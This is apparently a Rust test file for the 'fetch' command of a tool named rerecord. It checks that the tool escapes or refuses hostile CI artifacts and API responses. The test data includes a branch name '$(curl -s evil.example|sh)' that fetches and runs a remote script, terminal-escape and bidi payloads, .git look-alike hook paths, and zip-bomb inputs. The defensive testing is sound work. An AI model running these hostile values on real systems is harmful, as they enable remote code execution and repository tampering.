//! `fetch` against artifacts and API answers built to attack the person running it: names that
//! carry workflow commands or terminal escapes, a branch that is a shell command, manifests that
//! delete directories or name one file twice, `.git` look-alikes, zips claiming millions of
//! entries, runs whose artifacts together are too large, and API bodies without end.

use std::io::{Read, Write};

use super::*;

/// A workflow command in `text` that rerecord did not write: the legacy form anywhere, or a
/// `::` command at the start of a line.
fn injected_command(text: &str) -> Option<&str> {
    text.lines()
        .find(|line| line.contains("##[") || line.trim_start().starts_with("::"))
}

/// The manifest of `files` with `edit` applied, in an artifact holding those files.
fn artifact_with(files: &[(&str, &[u8])], edit: impl FnOnce(&mut serde_json::Value)) -> Vec<u8> {
    let mut manifest = zips::manifest_value(1, files, &[]);
    edit(&mut manifest);
    let mut zip = ZipBuilder::new();
    for (path, bytes) in files {
        zip = zip.file(path, bytes);
    }
    zip.raw_manifest(&manifest).finish()
}

#[test]
fn fetch_output_defuses_workflow_commands_in_file_and_artifact_names() {
    let w = World::new();
    let names = crate::support::zips::WORKFLOW_COMMAND_NAMES;
    let files: Vec<(&str, &[u8])> = names.iter().map(|n| (*n, &b"{}\n"[..])).collect();
    let run = w.run_with(vec![(
        "recordings-##[error]artifact",
        zips::artifact(1, &files),
    )]);

    let out = w
        .fetch_run(run)
        .env("GITHUB_ACTIONS", "true")
        .run()
        .success();
    for name in names {
        assert_eq!(w.read(name), "{}\n", "{name} was applied");
    }
    let all = out.all_output();
    assert_eq!(injected_command(&all), None, "{all}");
    assert!(all.contains("x## [error]pwned.json"), "{all}");

    let json = w
        .fetch_run(run)
        .args(["--json", "--dry-run"])
        .run()
        .success();
    assert!(!json.stdout.contains("##["), "{}", json.stdout);
    assert_eq!(
        json.json()["artifacts"][0]["name"],
        "recordings-##[error]artifact"
    );
}

#[test]
fn fetch_shows_esc_sequences_and_bidi_characters_from_a_manifest_escaped() {
    let w = World::new();
    let hostile = "main\u{1b}]8;;https://evil.example\u{7}click\u{1b}[2J\u{202e}txt.exe";
    let zip = artifact_with(&[(A, b"{\"a\": 9}\n")], |m| {
        m["head_ref"] = hostile.into();
        m["head_sha"] = "2222222222222222222222222222222222222222".into();
        m["setup"] = format!("ollama{hostile}").into();
    });
    let run = w.run_with(vec![("recordings-1-1-record", zip)]);

    let out = w.fetch_run(run).arg("--commit").run().success();
    let all = out.all_output();
    for raw in ['\u{1b}', '\u{7}', '\u{202e}'] {
        assert!(!all.contains(raw), "raw {raw:?} in:\n{all:?}");
    }
    assert!(
        all.contains("main\\u{1b}]8;;https://evil.example\\u{7}click"),
        "{all}"
    );
    assert!(all.contains("\\u{202e}txt.exe"), "{all}");
    let message = git(&w.work, &["log", "-1", "--format=%B"]);
    assert!(
        !message.contains('\u{1b}') && message.lines().count() == 1,
        "{message:?}"
    );
}

#[test]
fn fetch_shell_quotes_a_hostile_branch_in_the_command_it_suggests() {
    let w = World::new();
    let branch = "$(curl -s evil.example|sh)";
    let spec = RunSpec::pull_request(WORKFLOW, FORK, branch, &w.head);
    let run = w.fake.add_run(UPSTREAM, spec);
    w.expired_artifact(run);

    let out = w.fetch_run(run).run().failure();
    out.assert_stderr_has("rerecord schedule --branch '$(curl -s evil.example|sh)'");
}

#[test]
fn fetch_refuses_a_manifest_that_deletes_a_recordings_directory() {
    let w = World::new();
    let zip = ZipBuilder::new()
        .manifest(1, &[], &["tests/integration/agents/recordings"])
        .finish();
    let before = w.snapshot();
    let run = w.run_with(vec![("recordings-1-1-record", zip)]);

    let out = w.fetch_run(run).run().failure();
    assert_eq!(w.snapshot(), before, "{}", out.stderr);
    assert_eq!(w.read(B), "{\"b\": 1}\n");
    out.assert_stderr_has("tests/integration/agents/recordings");
}

#[test]
fn fetch_refuses_names_that_differ_only_by_unicode_normalisation_or_case() {
    let nfc = "tests/integration/recordings/caf\u{e9}.json";
    let nfd = "tests/integration/recordings/cafe\u{301}.json";
    for (first, second) in [(nfc, nfd), (A, "tests/integration/recordings/A.json")] {
        let w = World::new();
        let before = w.snapshot();
        let run = w.run_with(vec![
            ("recordings-1", artifact(&[(first, "one\n")])),
            ("recordings-2", artifact(&[(second, "two\n")])),
        ]);
        let out = w.fetch_run(run).run().failure();
        out.assert_stderr_has("names differ only in case or Unicode");
        assert_eq!(w.snapshot(), before);
    }
}

#[test]
fn fetch_refuses_entries_that_macos_or_windows_would_read_as_dot_git() {
    let as_git = "that macOS or Windows would read as .git";
    for (case, name, why) in [
        (
            "zero_width",
            "tests/integration/recordings/.g\u{200c}it/hooks/post-checkout",
            as_git,
        ),
        (
            "short_name",
            "tests/integration/recordings/GIT~1/config",
            as_git,
        ),
        (
            "trailing_dot",
            "tests/integration/recordings/.git. /config",
            "has a segment ending in a dot or space (ambiguous on Windows)",
        ),
        (
            "stream",
            "tests/integration/recordings/.git::$INDEX_ALLOCATION/config",
            "contains a colon (Windows reads `name:stream` as a stream of `name`)",
        ),
    ] {
        let w = World::new();
        let out = w.assert_refused(artifact(&[(name, "#!/bin/sh\n")]), &[why]);
        assert!(!out.stderr.contains('\u{200c}'), "{:?}", out.stderr);
        crate::cli::redacted(|| {
            let snapshot = format!("fetch_refuses_an_unsafe_path_{case}");
            insta::assert_snapshot!(snapshot, crate::cli::failure_text(&out));
        });
    }
}

#[test]
fn fetch_refuses_an_ntfs_alternate_data_stream_name() {
    for name in [
        "tests/integration/recordings/x.json:stream",
        "tests/integration/recordings/::warning::x.json",
    ] {
        let w = World::new();
        // The work tree is left byte-for-byte unchanged (checked by assert_refused).
        let out = w.assert_refused(artifact(&[(name, "{}")]), &["colon", "stream"]);
        assert_eq!(injected_command(&out.all_output()), None, "{}", out.stderr);
    }
}

#[test]
fn fetch_refuses_a_zip_claiming_millions_of_entries_at_once() {
    let w = World::new();
    let started = std::time::Instant::now();
    w.assert_refused(
        zips::zip64_end_claiming(3_000_000, 3_000_000 * 46),
        &["3000000 entries by its end-of-central-directory record"],
    );
    assert!(started.elapsed() < std::time::Duration::from_secs(20));
}

#[test]
fn fetch_refuses_a_run_whose_artifacts_together_are_over_the_total_cap() {
    // Listed sizes over the cap: refused before anything is downloaded.
    let w = World::new();
    let noise = |seed: u8| -> Vec<u8> {
        (0..1500u32)
            .map(|i| (i * 7 + u32::from(seed)) as u8 ^ (i >> 3) as u8)
            .collect()
    };
    let big = three_artifacts("big", noise, |zip, path, bytes| zip.stored(path, bytes));
    let (before, out) = refused_over_total_cap(&w, &big, "4000");
    out.assert_stderr_has("over the 4000 byte limit for all artifacts of a run");
    assert_eq!(w.snapshot(), before);
    let downloads = w
        .fake
        .requests()
        .iter()
        .filter(|r| r.path.ends_with("/zip"))
        .count();
    assert_eq!(downloads, 0, "downloaded before refusing");

    // Small zips that unpack to more than the cap together: refused while unpacking.
    let w = World::new();
    let zeros = three_artifacts("zeros", |_| zips::zeros(2000), ZipBuilder::file);
    let (before, out) = refused_over_total_cap(&w, &zeros, "5000");
    out.assert_stderr_has("the limit for all artifacts of a run together");
    assert_eq!(w.snapshot(), before);
}

/// Artifacts `recordings-0` to `recordings-2`, the `i`th holding the one recording
/// `tests/integration/recordings/{stem}-{i}.json` of `bytes(i)`, added to its zip by `add`.
fn three_artifacts(
    stem: &str,
    bytes: impl Fn(u8) -> Vec<u8>,
    add: impl Fn(ZipBuilder, &str, &[u8]) -> ZipBuilder,
) -> Vec<(String, Vec<u8>)> {
    (0..3u8)
        .map(|i| {
            let path = format!("tests/integration/recordings/{stem}-{i}.json");
            let bytes = bytes(i);
            let zip = add(ZipBuilder::new(), &path, &bytes)
                .manifest(1, &[(&path, &bytes)], &[])
                .finish();
            (format!("recordings-{i}"), zip)
        })
        .collect()
}

/// `w` fetches a run of `artifacts` with `RERECORD_MAX_TOTAL_SIZE` at `cap`, which fails: the
/// checkout's snapshot before, and the refusal.
fn refused_over_total_cap(
    w: &World,
    artifacts: &[(String, Vec<u8>)],
    cap: &str,
) -> (Snapshot, Run) {
    let before = w.snapshot();
    let run = w.run_with(
        artifacts
            .iter()
            .map(|(n, z)| (n.as_str(), z.clone()))
            .collect(),
    );
    let out = w
        .fetch_run(run)
        .env("RERECORD_MAX_TOTAL_SIZE", cap)
        .run()
        .failure();
    (before, out)
}

#[test]
fn fetch_refuses_a_manifest_head_sha_that_is_not_a_commit_id_without_panicking() {
    let w = World::new();
    let zip = artifact_with(&[(A, b"{\"a\": 3}\n")], |m| {
        m["head_sha"] =
            "abcdefghijk\u{e9}\u{e9}\u{e9}\u{e9}\u{e9}\u{e9}\u{e9}\u{e9}\u{e9}\u{e9}z".into();
    });
    let out = w.assert_refused(zip, &["not a commit id"]);
    assert!(!out.stderr.contains("panicked"), "{}", out.stderr);
}

/// An "API" that answers every request with 200 and a JSON body without end.
fn endless_api() -> (String, std::thread::JoinHandle<()>) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let server = std::thread::spawn(move || {
        for stream in listener.incoming().take(8) {
            let Ok(mut stream) = stream else { return };
            std::thread::spawn(move || {
                let mut buf = [0u8; 4096];
                let _ = stream.read(&mut buf);
                let head = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n";
                if stream.write_all(head.as_bytes()).is_err() {
                    return;
                }
                let chunk = format!("{:x}\r\n{}\r\n", 64 * 1024, " ".repeat(64 * 1024));
                // 512 MiB at most; the client is expected to hang up long before.
                for _ in 0..8192 {
                    if stream.write_all(chunk.as_bytes()).is_err() {
                        return;
                    }
                }
            });
        }
    });
    (url, server)
}

#[test]
fn fetch_stops_reading_an_api_answer_that_never_ends() {
    let w = World::new();
    let (url, _server) = endless_api();
    let started = std::time::Instant::now();
    let out = rerecord()
        .current_dir(&w.work)
        .env("GH_TOKEN", TOKEN)
        .args([
            "fetch",
            "--api-url",
            &url,
            "--run-repo",
            UPSTREAM,
            "--run",
            "7",
        ])
        .run()
        .failure();
    out.assert_stderr_has("larger than 8388608 bytes");
    assert!(started.elapsed() < std::time::Duration::from_secs(60));
}
